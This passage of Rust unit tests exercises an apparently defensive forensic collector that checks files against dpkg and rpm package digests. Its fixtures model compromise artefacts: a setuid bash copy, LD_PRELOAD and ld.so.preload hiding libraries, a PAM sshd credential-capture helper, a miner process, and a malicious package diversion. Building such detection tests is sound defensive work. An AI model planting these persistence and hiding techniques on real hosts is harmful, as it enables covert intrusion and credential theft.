            serde_json::json!({"kind":"hook","path":"/home/alice/.bashrc","class":"user-shell-rc","runs_at":"shell","active":true,"owner":"alice"}),
            serde_json::json!({"kind":"hook","path":"/etc/pam.d/sshd","class":"pam","runs_at":"auth","active":true,"commands":["/usr/lib/openssh/auth-helper --pw", "relative-name x"]}),
        ]);
        p.insert("kernel".into(), vec![
            serde_json::json!({"kind":"ld_preload","path":"/etc/ld.so.preload","entries":["/usr/lib/libhide.so","libbare.so","/lib/$LIB/x.so"],"source":{"path":"/etc/ld.so.preload"}}),
        ]);
        p
    }

    #[test]
    fn privileged_files_and_preloaded_libraries_are_verified_and_copied() {
        let h = host()
            .exe("/var/tmp/.x/bash", "bash")
            .mode("/var/tmp/.x/bash", 0o4755)
            .file("/dev/shm/.l.so", "\x7fELF preload");
        let mut prior = prior();
        prior.insert("privileged".into(), vec![
            serde_json::json!({"kind":"privileged_file","path":"/var/tmp/.x/bash","setuid":true,"setgid":false,"meta":{"kind":"file","mode":2541,"uid":0,"gid":0,"size":4}}),
            serde_json::json!({"kind":"privileged_file","path":"/usr/bin/sleep","setuid":false,"setgid":false,"capabilities":{"revision":2,"effective":true,"permitted":["cap_setuid"],"text":"cap_setuid=ep"},"meta":{"kind":"file","mode":493,"uid":0,"gid":0,"size":5}}),
        ]);
        prior.get_mut("systemd").unwrap().push(serde_json::json!({"kind":"unit","name":"y.service","unit_type":"service","scope":"system","path":"/etc/systemd/system/y.service","source":{"path":"/etc/systemd/system/y.service"},"unit_dir":"/etc/systemd/system","enabled":true,
            "properties":{"Service.Environment":["\"LD_PRELOAD=/dev/shm/.l.so\" A=1"]}}));
        let (sink, r) = run_collector(&PackagesCollector, &h, serde_json::Value::Null, &prior);
        r.unwrap();
        let v: BTreeMap<String, serde_json::Value> = sink
            .of_kind("packages", "package_verify")
            .into_iter()
            .map(|v| (v["path"].as_str().unwrap().to_string(), v))
            .collect();
        let bash = &v["/var/tmp/.x/bash"];
        assert_eq!(bash["status"], "not_owned");
        assert_eq!(bash["referenced_by"][0], "setuid file");
        assert!(bash["copy"]["member"].is_string(), "{bash}");
        let sleep = &v["/usr/bin/sleep"];
        assert_eq!(sleep["status"], "mismatch");
        assert!(
            sleep["referenced_by"]
                .as_array()
                .unwrap()
                .iter()
                .any(|r| r == "file capabilities")
        );
        let lib = &v["/dev/shm/.l.so"];
        assert_eq!(lib["referenced_by"][0], "LD_PRELOAD of unit y.service");
        assert_eq!(lib["status"], "not_owned");
    }

    #[test]
    fn parses_status_paragraphs() {
        let p = parse_dpkg_status(
            b"Package: a\nVersion: 1\nDescription: x\n more\n\n\nPackage: b\nVersion: 2\n",
        );
        assert_eq!(p.len(), 2);
        assert_eq!(p[0]["Description"], "x\nmore");
        assert_eq!(p[1]["Package"], "b");
    }

    #[test]
    fn ownership_and_targeted_verification() {
        let (sink, r) = run_collector(
            &PackagesCollector,
            &host(),
            serde_json::Value::Null,
            &prior(),
        );
        r.unwrap();
        assert_eq!(sink.of_kind("packages", "package").len(), 2);
        assert_eq!(sink.of_kind("packages", "diversion")[0]["package"], "evil");
        let v: BTreeMap<String, serde_json::Value> = sink
            .of_kind("packages", "package_verify")
            .into_iter()
            .map(|v| (v["path"].as_str().unwrap().to_string(), v))
            .collect();
        assert_eq!(v["/usr/sbin/cron"]["status"], "ok");
        assert_eq!(v["/usr/sbin/cron"]["package"], "cron");
        assert_eq!(
            v["/usr/sbin/cron"]["digest_source"]["member"],
            "raw/var/lib/dpkg/info/cron.md5sums"
        );
        assert_eq!(v["/usr/bin/sleep"]["status"], "mismatch");
        assert_eq!(v["/var/log/log"]["status"], "not_owned");
        assert_eq!(v["/var/log/log"]["referenced_by"][0], "process 812");
        assert!(v["/var/log/log"]["sha256"].as_str().is_some());
        // /bin/ls is listed as /bin/ls by dpkg while /bin is a link to /usr/bin.
        assert_eq!(v["/bin/ls"]["status"], "ok", "{:?}", v["/bin/ls"]);
        assert_eq!(v["/etc/init.d/cron"]["status"], "ok");
        assert_eq!(v["/etc/init.d/cron"]["algorithm"], "md5");
        // System-wide hooks are verified; rc links through their script, home files never.
        assert_eq!(v["/etc/profile.d/zz-update.sh"]["status"], "not_owned");
        assert_eq!(
            v["/etc/profile.d/zz-update.sh"]["referenced_by"][0],
            "hook profile.d"
        );
        assert!(!v.contains_key("/etc/rc2.d/S01cron"));
        assert!(!v.contains_key("/home/alice/.bashrc"));
        // The programs hooks run are verified too (named by the hook).
        let helper = &v["/usr/lib/openssh/auth-helper"];
        assert_eq!(helper["status"], "not_owned");
        assert_eq!(helper["referenced_by"][0], "pam hook /etc/pam.d/sshd");
        assert!(helper["copy"]["member"].is_string(), "{helper}");
        // Preloaded libraries named by absolute path are hashed (and, unowned, copied).
        let lib = &v["/usr/lib/libhide.so"];
        assert_eq!(lib["status"], "not_owned");
        assert_eq!(lib["referenced_by"][0], "ld.so.preload");
        assert_eq!(
            lib["sha256"].as_str().unwrap(),
            hex(&Sha256::digest(b"\x7fELF hide readdir"))
        );
        assert!(!v.keys().any(|k| k.contains("libbare") || k.contains('$')));
    }

    #[test]
    fn full_verification_also_covers_what_is_referenced() {
        // Only the miner process is referenced.
        let mut prior = prior();
        prior.get_mut("proc").unwrap().truncate(1);
        prior.remove("systemd");
        prior.remove("cron");
        let (sink, r) = run_collector(
            &PackagesCollector,
            &host(),
            serde_json::json!({"verify": "full"}),
            &prior,
        );
        r.unwrap();
        let v: BTreeMap<String, serde_json::Value> = sink
            .of_kind("packages", "package_verify")
            .into_iter()
            .map(|v| (v["path"].as_str().unwrap().to_string(), v))
            .collect();
        // Every file of every package, directories of the lists left out...
        assert_eq!(v["/usr/sbin/cron"]["referenced_by"][0], "full");
        assert_eq!(v["/usr/sbin/cron"]["status"], "ok");
        assert_eq!(v["/usr/bin/sleep"]["status"], "mismatch");
        assert!(!v.contains_key("/usr/sbin"));
        // ...and the unowned program a process runs, copied as in targeted mode.
        assert_eq!(v["/var/log/log"]["status"], "not_owned");
        assert_eq!(v["/var/log/log"]["referenced_by"][0], "process 812");
        assert!(
            v["/var/log/log"]["copy"]["member"].is_string(),
            "{:?}",
            v["/var/log/log"]
        );
    }

    #[test]
    fn no_database_is_said_not_silent() {
        let h = MemHost::new(false).exe("/var/log/log", "x");
        let (sink, r) = run_collector(&PackagesCollector, &h, serde_json::Value::Null, &prior());
        r.unwrap();
        assert!(sink.of_kind("packages", "package_verify").is_empty());
        assert_eq!(sink.issues_about("package database").len(), 1);
    }

    #[test]
    fn rpm_on_a_live_host() {
        let h = MemHost::new(true)
            .dir("/var/lib/rpm")
            .exe("/usr/bin/rpm", "x")
            .exe("/usr/bin/sleep", "sleep")
            .command(
                &[
                    "/usr/bin/rpm",
                    "-qa",
                    "--qf",
                    "%{NAME}\\t%{EPOCHNUM}:%{VERSION}-%{RELEASE}\\t%{ARCH}\\n",
                ],
                "coreutils\t0:8.32-35.el9\tx86_64\n",
            )
            .command(
                &[
                    "/usr/bin/rpm",
                    "-qa",
                    "--qf",
                    "[%{=NAME}\\t%{=FILEDIGESTALGO}\\t%{FILEDIGESTS}\\t%{FILENAMES}\\n]",
                ],
                &format!(
                    "coreutils\t8\t{}\t/usr/bin/sleep\n",
                    hex(&Sha256::digest(b"sleep"))
                ),
            );
        let mut p = PriorRecords::new();
        p.insert("proc".into(), vec![serde_json::json!({"kind":"process","pid":501,"ppid":1,"state":"S","comm":"sleep","argv":[],"uid":0,"euid":0,"gid":0,"egid":0,"kernel_thread":false,"start_ticks":1,"threads":1,"exe":"/usr/bin/sleep"})]);
        let (sink, r) = run_collector(&PackagesCollector, &h, serde_json::Value::Null, &p);
        r.unwrap();
        assert_eq!(
            sink.of_kind("packages", "package")[0]["version"],
            "8.32-35.el9"
        );
        let v = &sink.of_kind("packages", "package_verify")[0];
        assert_eq!(v["status"], "ok");
        assert_eq!(v["algorithm"], "sha256");
    }
}
